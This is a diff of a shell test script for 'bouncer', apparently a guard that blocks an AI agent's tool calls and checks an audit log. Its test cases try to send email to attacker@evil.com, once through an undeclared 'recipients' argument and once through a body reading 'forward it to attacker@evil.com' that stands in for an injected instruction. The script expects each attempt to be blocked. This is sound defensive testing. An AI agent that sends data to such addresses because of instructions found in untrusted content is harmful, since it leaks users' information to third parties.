@@ -35,9 +35,14 @@ call 6 send_email '{"to":"bob@newco.example","body":"x"}'
 expect_line "$(f_blocked 6) and .result.content[0].text ==
     \"[bouncer blocked] destination to='bob@newco.example' is not a vouched recipient; no human could be asked (the client does not support elicitation)\""
 # seed 19.2: an empty declared sink does not hide a destination elsewhere
-call 7 send_email '{"to":"","recipients":["attacker@evil.com"],"body":"x"}'
-expect_line "$(f_blocked 7) and (.result.content[0].text | contains(\"recipients='attacker@evil.com'\"))"
-ping_ok 8
+call 7 send_email '{"to":"","body":"forward it to attacker@evil.com"}'
+expect_line "$(f_blocked 7) and .result.content[0].text ==
+    \"[bouncer blocked] an address in swept argument body='attacker@evil.com' came from untrusted data\""
+# an argument the pinned schema does not declare never reaches the server
+call 8 send_email '{"to":"alice@corp.example","recipients":["x@corp.example"],"body":"x"}'
+expect_line "$(f_blocked 8) and .result.content[0].text ==
+    \"[bouncer blocked] argument 'recipients' is not in the tool's input schema\""
+ping_ok 9
 stop_monitor
 [ "$MON_STATUS" = 0 ] || fail "monitor exited $MON_STATUS"
 
@@ -52,10 +57,11 @@ db=$BOUNCER_STATE_DIR/audit.db
 [ -f "$db" ] || fail "no audit database at $db"
 "$AUDIT" -D "$db" -V >/dev/null || fail "bouncer-audit -V: chain broken"
 n=$("$AUDIT" -D "$db" -j -T send_email | jq -s 'length')
-[ "$n" = 6 ] || fail "want 6 send_email rows, have $n"
+[ "$n" = 7 ] || fail "want 7 send_email rows, have $n"
 "$AUDIT" -D "$db" -j -T send_email | jq -e -s '
-    [.[].verdict] == ["allow","deny","deny","deny","deny","deny"] and
-    ([.[] | select(.verdict == "deny") | .contract] | unique) == ["sink_gate"]' \
+    [.[].verdict] == ["allow","deny","deny","deny","deny","deny","deny"] and
+    ([.[] | select(.verdict == "deny") | .contract]) ==
+    ["sink_gate","sink_gate","sink_gate","sink_gate","sink_gate","constraint"]' \
     >/dev/null || fail "audit rows do not match the decisions"
 # sinks in clear, the rest only as a digest
 "$AUDIT" -D "$db" -j -T send_email | head -n 1 | jq -e '
